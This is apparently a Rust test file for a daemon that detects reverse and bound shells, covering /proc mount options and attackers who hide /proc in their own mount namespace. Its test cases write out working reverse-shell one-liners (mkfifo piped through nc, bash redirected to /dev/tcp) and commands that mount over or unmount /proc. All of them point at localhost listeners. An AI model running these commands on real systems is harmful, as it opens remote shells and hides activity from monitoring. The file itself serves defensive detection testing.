//! `/proc` itself: hidden from the daemon, and put away by the attacker.

use std::process::{Command, Stdio};

use crate::common::attacker::Listener;
use crate::common::daemon::{Daemon, Place, TETHERD};
use crate::common::victim::Victim;
use crate::{alone, found, is_of, on_socket, require, shell};

/// tetherd in a mount namespace of its own, whose `/proc` is mounted with these options.
fn with_proc(options: &str) -> Command {
    let line = format!(
        "mount --make-rprivate / && umount -l /proc && mount -t proc -o {options} proc /proc && exec \"$@\""
    );
    let mut command = Command::new("unshare");
    command.args(["--mount", "sh", "-c", &line, "sh", TETHERD]);
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::piped());
    command
}

/// What `doctor` says there.
fn doctor(options: &str) -> String {
    let output = with_proc(options).arg("doctor").stdout(Stdio::piped()).output().unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn daemon(options: &str) -> Daemon {
    let place = Place::new("");
    let mut command = with_proc(options);
    command.args(place.command().get_args());
    Daemon::start_by(&place, command)
}

/// As root nothing is hidden.
#[test]
fn hidepid() {
    require!("unshare", "mount", "bash", "nc.openbsd");
    let _alone = alone();
    let (daemon, doctor) = (daemon("hidepid=2"), doctor("hidepid=2"));
    let line = doctor.lines().find(|line| line.contains("hidepid")).unwrap_or_default();
    assert!(line.starts_with("ok") && line.contains("set, and no hindrance"), "{doctor}");
    finds_both(&daemon);
    daemon.stop();
}

/// With `subset=pid` there is nothing but processes: what tetherd works with is still there, or it says so.
#[test]
fn processes_and_nothing_else() {
    require!("unshare", "mount", "bash", "nc.openbsd");
    let _alone = alone();
    let doctor = doctor("subset=pid");
    let line = doctor.lines().find(|line| line.contains("subset")).unwrap_or_default();
    assert!(line.starts_with("warn"), "{doctor}");
    let daemon = daemon("subset=pid");
    finds_both(&daemon);
    daemon.stop();
}

/// A shell on a socket and one behind a relay.
fn finds_both(daemon: &Daemon) {
    let port = Listener::tcp().swallow();
    let (victim, own) = on_socket(port, shell("read line"));
    let record = found(daemon, own);
    assert_eq!(record.row(), 1, "{}", record.brief());
    drop(victim);
    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
    let line = format!(
        "cd {}; mkfifo f; sh <f 2>&1 | nc.openbsd 127.0.0.1 {} >f",
        directory.path().display(),
        attacker.port()
    );
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let _session = attacker.accept();
    daemon.wait_for("the relayed shell", |record| is_of(record, attacker.port()) && record.row() == 4);
    drop(victim);
}

/// The attacker mounts something else over `/proc` where the shell lives: the daemon looks into its own.
#[test]
fn another_proc_in_the_attackers_namespace() {
    require!("unshare", "mount");
    let _alone = alone();
    let daemon = Daemon::shared();
    for hide in ["mount -t tmpfs none /proc", "mount --bind /tmp /proc", "umount -l /proc"] {
        let attacker = Listener::tcp();
        let line = format!(
            "mount --make-rprivate /; {hide}; exec bash --norc >&/dev/tcp/127.0.0.1/{} 0>&1",
            attacker.port()
        );
        let victim = Victim::start("unshare", &["--mount", "/bin/bash", "-c", &line]);
        let mut session = attacker.accept();
        session.run("/bin/sleep 0.2");
        let record = daemon.wait_for("the shell and its command", |record| {
            is_of(record, attacker.port()) && record.ran(&["/bin/sleep", "0.2"])
        });
        assert_eq!(record.row(), 1, "{hide}: {}", record.brief());
        session.exit();
        drop(victim);
    }
}
